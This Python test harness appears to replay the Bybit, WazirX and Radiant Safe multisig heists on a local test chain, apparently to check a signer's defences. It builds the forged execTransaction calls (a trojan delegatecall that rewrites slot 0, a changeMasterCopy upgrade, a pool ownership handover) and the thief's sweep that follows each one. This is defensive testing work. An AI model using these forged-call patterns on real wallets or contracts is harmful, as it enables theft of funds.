"""The Safe incidents on the replay's chain (Bybit, WazirX, Radiant): the contracts
deployed at set-up, the forged call the exchange's key is made to send, the attacker's
follow-up move, and the loss read back from the chain.

Set-up: the exchange's treasury (eth-tester account 3) deploys the Safe — a singleton
and a proxy set up with the hot wallet (the account Kinko's signer signs for) as its
owner, threshold 1 — and funds it with the incident's amount; the pool's depositors
(account 4) fund Radiant's pool, owned by the Safe; the thief's own account (a key of its
own, paid for gas by account 5) deploys the thief's contracts. Nothing here decides an
outcome: `aftermath` sends the attacker's follow-up whatever happened before and reads
what left the victim's contract and what reached the thief (`reading.ATTACKER`).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

from eth_account import Account

from kinko.chains.ethereum.address import keccak256
from kinko.replays.contracts.attacker import sweeper_code, trojan_code
from kinko.replays.contracts.lending import pool_code
from kinko.replays.contracts.safe import SETUP, proxy_code, singleton_code
from kinko.replays.moves import ZERO, encode_call, safe_exec
from kinko.replays.reading import ATTACKER

TREASURY, DEPOSITORS, THIEF_FUNDS = 3, 4, 5  # eth-tester accounts (key = index + 1)
THIEF_KEY = keccak256(b"kinko replay: the thief's own account")
DEPLOY_GAS, CALL_GAS = 1_500_000, 300_000


def account_key(index: int) -> bytes:
    """The secret key of eth-tester's funded account `index` (keys 1, 2, ...)."""
    return (index + 1).to_bytes(32, "big")


def address_of(key: bytes) -> str:
    return str(Account.from_key(key).address)


@dataclass(frozen=True, slots=True)
class Sent:
    txid: str
    status: int  # 1: executed, 0: reverted (mined all the same)
    contract: str | None  # the address created, for a deployment


def send(
    w3: Any, key: bytes, to: str | None, data: bytes, *, value: int = 0, gas: int = CALL_GAS
) -> Sent:
    """A transaction signed with a raw `key` (outside Kinko), sent and mined."""
    sender = address_of(key)
    base = int(w3.eth.get_block("latest")["baseFeePerGas"])
    tx: dict[str, Any] = {
        "chainId": int(w3.eth.chain_id),
        "nonce": int(w3.eth.get_transaction_count(sender)),
        "value": value,
        "data": data,
        "gas": gas,
        "maxFeePerGas": base * 2 + 10**9,
        "maxPriorityFeePerGas": 10**9,
    }
    if to is not None:
        tx["to"] = to
    signed = Account.from_key(key).sign_transaction(tx)
    receipt = w3.eth.wait_for_transaction_receipt(
        w3.eth.send_raw_transaction(signed.raw_transaction)
    )
    created = receipt["contractAddress"]
    return Sent(
        "0x" + bytes(receipt["transactionHash"]).hex().removeprefix("0x"),
        int(receipt["status"]),
        None if created is None else str(created),
    )


def deploy(w3: Any, key: bytes, code: bytes) -> str:
    sent = send(w3, key, None, code, gas=DEPLOY_GAS)
    if sent.status != 1 or sent.contract is None:
        raise RuntimeError(f"deployment {sent.txid} failed")
    return sent.contract


def deploy_safe(w3: Any, owner: str, funds: int) -> str:
    """A Safe (singleton + proxy) with `owner` its only owner, threshold 1, holding
    `funds` wei from the treasury; the proxy's address."""
    treasury = account_key(TREASURY)
    proxy = deploy(w3, treasury, proxy_code(deploy(w3, treasury, singleton_code())))
    setup = encode_call(
        SETUP,
        ["address[]", "uint256", "address", "bytes", "address", "address", "uint256", "address"],
        [[owner], 1, ZERO, b"", ZERO, ZERO, 0, ZERO],
    )
    for data, value in ((setup, 0), (b"", funds)):
        if send(w3, treasury, proxy, data, value=value).status != 1:
            raise RuntimeError("the Safe's set-up failed")
    return proxy


@dataclass(frozen=True, slots=True)
class Heist:
    """One incident on the chain, set up."""

    safe: str  # the Safe the forged execTransaction goes to
    vault: str  # the contract holding the funds (the Safe, or Radiant's pool)
    forged: bytes  # the execTransaction the Safe's owner key is made to send
    follow_up: bytes  # the thief's next call to `vault`, once the forged call is in
    held: int  # the vault's balance after set-up
    thief_held: int  # ATTACKER's balance after set-up
    deployed: tuple[tuple[str, str], ...]  # (what, address), for the observations


@dataclass(frozen=True, slots=True)
class Aftermath:
    """What the chain shows after the thief's follow-up move."""

    follow_up: Sent
    vault_drop: int
    thief_gain: int

    @property
    def loss(self) -> int:
        return max(self.vault_drop, self.thief_gain, 0)


def _thief(w3: Any) -> bytes:
    send(w3, account_key(THIEF_FUNDS), address_of(THIEF_KEY), b"", value=10**18, gas=21_000)
    return THIEF_KEY


def _heist(w3: Any, safe: str, vault: str, forged: bytes, follow_up: bytes, **named: str) -> Heist:
    deployed = (("Safe (proxy)", safe), *named.items())
    held, thief_held = int(w3.eth.get_balance(vault)), int(w3.eth.get_balance(ATTACKER))
    return Heist(safe, vault, forged, follow_up, held, thief_held, deployed)


def sweep_eth() -> bytes:
    return encode_call("sweepETH(address)", ["address"], [ATTACKER])


def bybit(w3: Any, owner: str, funds: int) -> Heist:
    """The Safe delegatecalls the trojan's `transfer(sweeper, 0)`: slot 0 becomes the
    sweeper; the thief then calls `sweepETH` through the Safe."""
    safe, thief = deploy_safe(w3, owner, funds), _thief(w3)
    trojan = deploy(w3, thief, trojan_code())
    sweeper = deploy(w3, thief, sweeper_code(address_of(thief)))
    poison = encode_call("transfer(address,uint256)", ["address", "uint256"], [sweeper, 0])
    forged = safe_exec(trojan, poison, operation=1)
    return _heist(w3, safe, safe, forged, sweep_eth(), trojan=trojan, sweeper=sweeper)


def wazirx(w3: Any, owner: str, funds: int) -> Heist:
    """The Safe calls its own `changeMasterCopy(sweeper)`; then `sweepETH`."""
    safe, thief = deploy_safe(w3, owner, funds), _thief(w3)
    sweeper = deploy(w3, thief, sweeper_code(address_of(thief)))
    upgrade = encode_call("changeMasterCopy(address)", ["address"], [sweeper])
    forged = safe_exec(safe, upgrade, operation=0)
    return _heist(w3, safe, safe, forged, sweep_eth(), sweeper=sweeper)


def radiant(w3: Any, owner: str, funds: int) -> Heist:
    """The Safe calls the pool's `transferOwnership(thief)`; the new owner withdraws."""
    safe, thief = deploy_safe(w3, owner, 0), _thief(w3)
    pool = deploy(w3, account_key(DEPOSITORS), pool_code(safe))
    send(w3, account_key(DEPOSITORS), pool, b"", value=funds)
    handover = encode_call("transferOwnership(address)", ["address"], [address_of(thief)])
    forged = safe_exec(pool, handover, operation=0)
    take = encode_call("withdraw(address,uint256)", ["address", "uint256"], [ATTACKER, funds])
    return _heist(w3, safe, pool, forged, take, pool=pool)


def aftermath(w3: Any, heist: Heist) -> Aftermath:
    """The thief's follow-up move (sent whatever happened before: it reverts unless the
    forged call is in), then the vault's drop and the thief's gain, from the chain."""
    sent = send(w3, THIEF_KEY, heist.vault, heist.follow_up)
    return Aftermath(
        sent,
        heist.held - int(w3.eth.get_balance(heist.vault)),
        int(w3.eth.get_balance(ATTACKER)) - heist.thief_held,
    )
